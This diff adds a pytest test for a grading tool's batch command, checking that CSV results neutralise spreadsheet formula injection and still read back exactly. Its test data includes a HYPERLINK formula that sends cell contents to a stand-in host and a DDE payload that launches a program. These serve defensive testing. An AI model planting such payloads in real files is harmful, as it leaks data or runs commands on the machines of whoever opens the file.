@@ -480,3 +480,57 @@ def test_an_unreadable_csv_row_is_reported_at_its_line_and_the_rows_after_it_sti
     parsed = parse_batch(text, "csv", evaluator=evaluator)
     assert [e.split(":")[0] for e in parsed.errors] == ["line 2"]
     assert [(item.line, item.answer) for item in parsed.items] == [(3, "A fine answer.")]
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "%0A=1", "|x"]
+
+
+def test_csv_results_never_hold_a_live_spreadsheet_formula_and_read_back_exact(
+    settings: Settings,
+    openai_server: FakeOpenAIServer,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    for name, value in {
+        "OPENAI_API_KEY": KEY,
+        "OPENAI_BASE_URL": openai_server.base_url,
+        "DATA_PATH": str(settings.data_path),
+        "LOG_PATH": str(settings.log_path),
+        "CACHE_PATH": str(tmp_path / "cache.sqlite"),
+    }.items():
+        monkeypatch.setenv(name, value)
+    answers = [*FORMULAS, "-2.5", "'quoted", "A plain answer."]
+    rows = [
+        {"id": f"=r{i}", "question": f"={i}+1 what?", "reference": f"@ref {i}", "answer": a}
+        for i, a in enumerate(answers)
+    ]
+    source = tmp_path / "answers.jsonl"
+    source.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    out_csv, out_jsonl = tmp_path / "graded.csv", tmp_path / "graded.jsonl"
+
+    assert cli.main(["batch", str(source), "-o", str(out_csv), "-q"]) == 0
+    assert cli.main(["batch", str(source), "-o", str(out_jsonl), "-q"]) == 0
+
+    with out_csv.open(newline="", encoding="utf-8") as fh:
+        cells = list(csv.DictReader(fh))
+    assert len(cells) == len(answers)
+    for row in cells:
+        for name in ("key", "question", "reference", "answer", "feedback", "error"):
+            text = row[name]
+            assert not text.startswith(("=", "+", "@", "|", "%", "\t", "\r")), (name, text)
+            assert not text.startswith("-") or text == "-2.5", (name, text)
+        float(row["score"])  # numeric columns stay plain numbers
+        int(row["prompt_tokens"])
+    assert [c["answer"] for c in cells[: len(FORMULAS)]] == ["'" + a for a in FORMULAS]
+    assert cells[len(FORMULAS)]["answer"] == "-2.5"  # a number is not a formula
+
+    # The JSONL output keeps every text exactly; the CSV read back (as a resume does) gives the same text.
+    exact = [json.loads(line) for line in out_jsonl.read_text(encoding="utf-8").splitlines()]
+    assert [r["answer"] for r in exact] == answers and [r["key"] for r in exact] == [r["id"] for r in rows]
+    back = read_results(out_csv)
+    for name in ("key", "question", "reference", "answer"):
+        assert [r[name] for r in back] == [r[name] for r in exact]
+    served = openai_server.served
+    assert cli.main(["batch", str(source), "-o", str(out_csv), "-q"]) == 0  # resumes: nothing graded twice
+    assert openai_server.served == served
+    assert [r["answer"] for r in read_results(out_csv)] == answers
